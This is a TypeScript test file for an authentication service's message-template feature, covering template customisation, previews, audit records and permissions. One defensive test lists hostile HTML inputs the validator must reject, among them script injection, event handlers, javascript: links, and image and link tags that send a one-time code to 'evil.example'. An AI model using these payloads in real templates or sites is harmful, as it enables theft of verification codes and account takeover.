import assert from 'node:assert/strict'
import { type TestContext, test } from 'node:test'
import { scopes } from '@gatehouse/contract/operation'
import { isGatehouseError } from '@gatehouse/sdk'
import { startTestServer } from '@gatehouse/testing/start-test-server'
import { emptyDatabase } from './empty-database.ts'

const password = 'seven unrelated words in a row'
const engines = ['sqlite', 'postgres'] as const

async function start(t: TestContext, engine: (typeof engines)[number]) {
  const database = engine === 'postgres' ? await emptyDatabase() : undefined
  if (engine === 'postgres' && !database) {
    t.diagnostic('not checked: PostgreSQL (GATEHOUSE_TEST_DATABASE_URL is not set; run the tests with npm test)')
    return undefined
  }
  const settings = {
    GATEHOUSE_SERVICE_NAME: 'Example',
    GATEHOUSE_MESSAGES: JSON.stringify({ default: { en: { code: { subject: '{code}, by a setting' } } } }),
  }
  const server = await startTestServer({ databaseUrl: database?.url, settings })
  t.after(async () => {
    await server.stop()
    await database?.drop()
  })
  const live = await server.client({ tenant: 'default', scopes })
  const sandbox = await server.client({ tenant: 'default-test', scopes })
  /** What a new person of the tenant gets who enrols their mail address. */
  const codeTo = async (gatehouse: typeof live, email: string) => {
    const user = await gatehouse.users.create({ email, password })
    await gatehouse.users.factors.enroll({ id: user.id, type: 'email' })
    return (await server.outbox.last(email)) ?? assert.fail('no mail')
  }
  return { server, live, sandbox, codeTo }
}

for (const engine of engines) {
  test(`a tenant says a message in other words, in text and HTML, and takes ours again (${engine})`, async (t) => {
    const house = await start(t, engine)
    if (!house) return
    const { live, sandbox, codeTo } = house
    assert.match((await codeTo(live, 'a@example.test')).subject ?? '', /^\d{6}, by a setting$/)

    const html =
      '<table width="100%"><tr><td style="color:#333333">Hello,<br/><b>{code}</b> &#169; {service}</td></tr></table>'
    const changed = await live.messageTemplates.update({
      kind: 'code',
      language: 'en',
      subject: 'Your code: {code}',
      paragraphs: ['Hello,', '{code} is it.'],
      html,
      reason: 'the house style',
    })
    assert.deepEqual(
      [changed.subject, changed.html, changed.own],
      ['Your code: {code}', html, ['subject', 'paragraphs', 'html']],
    )
    const mail = await codeTo(live, 'b@example.test')
    const code = mail.values['code']
    assert.equal(mail.subject, `Your code: ${code}`)
    assert.equal(mail.text, `Hello,\n\n${code} is it.\n`)
    assert.match(mail.html ?? '', new RegExp(`<td style="color:#333333">Hello,<br/><b>${code}</b> &#169; Example</td>`))

    // Other languages, messages and tenants are as they were.
    const german = await live.messageTemplates.list({ kind: 'code', language: 'de' })
    assert.deepEqual([german.data.length, german.data[0]?.own, german.data[0]?.changed_at], [1, [], null])
    assert.match((await codeTo(sandbox, 'c@example.test')).subject ?? '', /^\d{6} is your code for Example$/)

    const ours = { subject: null, paragraphs: null, html: null }
    const back = await live.messageTemplates.update({ kind: 'code', language: 'en', ...ours, reason: 'no more' })
    assert.deepEqual([back.subject, back.own], ['{code}, by a setting', ['subject']])
    assert.match((await codeTo(live, 'd@example.test')).subject ?? '', /, by a setting$/)

    const record = (await live.auditEvents.listPage({ action: 'template_changed' })).data
    assert.deepEqual(
      record.map(({ data }) => [data['message'], data['language'], data['changed'], data['reason']]),
      [
        ['code', 'en', 'subject paragraphs html', 'no more'],
        ['code', 'en', 'subject paragraphs html', 'the house style'],
      ],
    )
    assert.deepEqual(house.server.failures, [])
  })
}

test('every message is listed in both languages, and each can be looked at before it is sent', async (t) => {
  const house = await start(t, 'sqlite')
  if (!house) return
  const { live, server } = house
  const { data } = await live.messageTemplates.list({})
  assert.ok(data.length >= 48 && data.length % 2 === 0)
  for (const { kind, language, channels } of data) {
    const shown = await live.messageTemplates.preview({ kind, language })
    assert.equal(shown.html !== null, channels.includes('email'), kind)
    assert.ok(!/[{}]/.test(`${shown.subject}${shown.text}${shown.short}`), kind)
  }
  const { short, text, html } = await live.messageTemplates.preview({
    kind: 'code',
    language: 'de',
    short: '{code} – {service}',
    html: '<p>{code}</p>',
  })
  assert.equal(short, '123456 – Example')
  assert.match(html ?? '', /<body>\n<p>123456<\/p>/)
  assert.match(text ?? '', /123456/)
  // It was looked at, no more.
  assert.deepEqual((await live.messageTemplates.list({ kind: 'code', language: 'de' })).data[0]?.own, [])
  assert.deepEqual(await server.outbox.all(), [])
})

test('words that could not be sent, or could do harm, are refused', async (t) => {
  const house = await start(t, 'sqlite')
  if (!house) return
  const { live } = house
  const refusalOf = async (words: object) => {
    for (const act of [
      () => live.messageTemplates.update({ kind: 'code', language: 'en', ...words, reason: 'x' }),
      () => live.messageTemplates.preview({ kind: 'code', language: 'en', ...words }),
    ]) {
      const error: unknown = await act().then(
        () => assert.fail(`${JSON.stringify(words)} was taken`),
        (thrown: unknown) => thrown,
      )
      assert.ok(isGatehouseError(error) && error.code === 'invalid_request', String(error))
    }
  }
  const bad = [
    { subject: '{password}' },
    { subject: '{code' },
    { subject: 'code}' },
    { subject: '{{code}}' },
    { subject: '{#if code}' },
    { subject: '{constructor}' },
    { paragraphs: ['no code here'] },
    { short: 'no code here' },
    { html: '<p>no code here</p>' },
    { subject: '' },
    { html: '<p>{code}' },
    { html: '{code}<script>alert(1)</script>' },
    { html: '{code}<style>p { color: red }</style>' },
    { html: '<p onclick="x()">{code}</p>' },
    { html: '<a href="javascript:x()">{code}</a>' },
    { html: '<a href="https://evil.example/{code}">{code}</a>' },
    { html: '<img src="https://evil.example/?c={code}"/>{code}' },
    { html: '<img src="http://example.org/x.png"/>{code}' },
    { html: '<img src="data:image/svg+xml,x"/>{code}' },
    { html: '<p style="background:url(https://x.example)">{code}</p>' },
    { html: '<form action="https://x.example"><input/></form>{code}' },
    { html: '<iframe src="https://x.example"></iframe>{code}' },
    { html: '{code}<!-- <b> -->' },
    { html: '{code}<![CDATA[<script>]]>' },
    { html: '<!DOCTYPE html>{code}' },
    { html: '{code}<svg onload="x()"/>' },
    { html: '{code}</td>' },
  ]
  for (const words of bad) await refusalOf(words)
  assert.deepEqual((await live.messageTemplates.list({ kind: 'code', language: 'en' })).data[0]?.own, ['subject'])
  // A message whose one thing is its link has it.
  const linkless = { kind: 'recovery_requested', language: 'en', html: '<p>Nothing to click</p>', reason: 'x' } as const
  await assert.rejects(live.messageTemplates.update(linkless), { code: 'invalid_request' })
  const linked = '<p>{user_name}</p>'
  await assert.rejects(live.messageTemplates.update({ ...linkless, html: linked }), { code: 'invalid_request' })
  await live.messageTemplates.update({ ...linkless, html: '<p><a href="{link}">It was not me</a></p>' })
})

test('who may not change rules changes no words', async (t) => {
  const house = await start(t, 'sqlite')
  if (!house) return
  const reader = await house.server.client({ tenant: 'default' })
  assert.ok((await reader.messageTemplates.list({})).data.length > 0)
  const change = { kind: 'code', language: 'en', subject: '{code}', reason: 'x' } as const
  await assert.rejects(reader.messageTemplates.update(change), { code: 'insufficient_scope' })
})
